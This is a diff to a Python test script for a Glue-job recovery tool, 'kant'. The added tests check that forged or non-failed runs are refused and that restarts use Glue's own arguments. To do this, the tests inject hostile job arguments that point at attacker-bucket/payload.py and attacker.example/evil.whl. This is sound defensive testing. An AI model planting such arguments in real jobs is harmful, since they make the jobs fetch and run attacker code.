@@ -38,7 +38,10 @@ def main():
              "Arguments": {"--business_date": "x"}} for i in range(10)]
     cur.execute("SELECT kant.ingest_glue_job_runs('hegel', %s::jsonb)", (json.dumps({"JobRuns": hist}),))
 
-    def fail(run_id, started_ago=600, ended_ago=60, prev=None, job="export_users", state="FAILED"):
+    def fail(run_id, started_ago=600, ended_ago=60, prev=None, job="export_users", state="FAILED",
+             in_glue=True, glue_state=None):
+        """A failed run as the collector would ingest it; Glue knows it too
+        (GetJobRun answers it, in glue_state if given) unless in_glue is false."""
         r = {"Id": run_id, "JobName": job, "JobRunState": state, "Attempt": 0,
              "StartedOn": now - started_ago, "Arguments": {"--business_date": "2026-11-25", "--full": "true"},
              "ErrorMessage": "An error occurred while calling o123.save"}
@@ -46,6 +49,9 @@ def main():
             r["CompletedOn"] = now - ended_ago
         if prev:
             r["PreviousRunId"] = prev
+        if in_glue:
+            g = dict(r, JobRunState=glue_state or state)
+            glue.data.glue_runs.setdefault(job, []).insert(0, g)
         cur.execute("SELECT inserted + updated FROM kant.ingest_glue_job_runs('hegel', %s::jsonb)",
                     (json.dumps({"JobRuns": [r]}),))
 
@@ -123,6 +129,36 @@ def main():
     log = [x[0] for x in cur.fetchall()]
     tap(log == ["done", "done", "skipped", "skipped", "already", "done", "skipped"],
         "every restart and every skip is in kant.actions: %s" % log)
+
+    # a writer reports runs; it never chooses what kant starts with the system's
+    # credentials: the run is asked of Glue (GetJobRun) and restarted with Glue's
+    # arguments, and a run Glue does not know or does not call failed is refused
+    cur.execute("UPDATE kant.slo SET deadline_offset_days = 3, deadline_time = '23:59', sla_offset_days = 4")
+    cur.execute("DELETE FROM kant.action_log")
+    started = len(glue.started)
+    fail("jr_made_up", started_ago=9, ended_ago=3, in_glue=False)
+    cur.execute("""UPDATE kant.job_run SET details = jsonb_set(details, '{Arguments}',
+                   '{"--extra-py-files": "s3://attacker-bucket/payload.py"}') WHERE external_id = 'jr_made_up'""")
+    r = recover()
+    again = recover()
+    tap(len(r) == 1 and r[0][2] == "refused" and "EntityNotFoundException" in r[0][3] and again == []
+        and len(glue.started) == started,
+        "a failed run Glue does not know (a writer made it up) is refused for good, no StartJobRun: %s" % (r,))
+    fail("jr_not_failed", started_ago=8, ended_ago=2, glue_state="SUCCEEDED")
+    r = recover()
+    tap(len(r) == 1 and r[0][2] == "refused" and "SUCCEEDED" in r[0][3] and len(glue.started) == started,
+        "a run kant holds as failed but Glue calls SUCCEEDED is refused: %s" % (r,))
+    fail("jr_real", started_ago=7, ended_ago=1)
+    cur.execute("""UPDATE kant.job_run SET details = jsonb_set(details, '{Arguments}',
+                   '{"--additional-python-modules": "https://attacker.example/evil.whl"}') WHERE external_id = 'jr_real'""")
+    r = recover()
+    sent = glue.started[-1] if len(glue.started) > started else {}
+    tap(len(r) == 1 and r[0][2] == "done" and sent.get("JobRunId") == "jr_real"
+        and sent.get("Arguments") == {"--business_date": "2026-11-25", "--full": "true"},
+        "a real failed run is restarted with Glue's arguments, not the ingested ones: %s" % (sent,))
+    gets = [q for q in glue.requests if q["target"] == "AWSGlue.GetJobRun"]
+    tap(gets and glue.bad_signatures == 0 and not glue.invalid_replies,
+        "GetJobRun signed and valid for botocore's model (%d calls)" % len(gets))
     glue.stop()
     tap.plan()
 
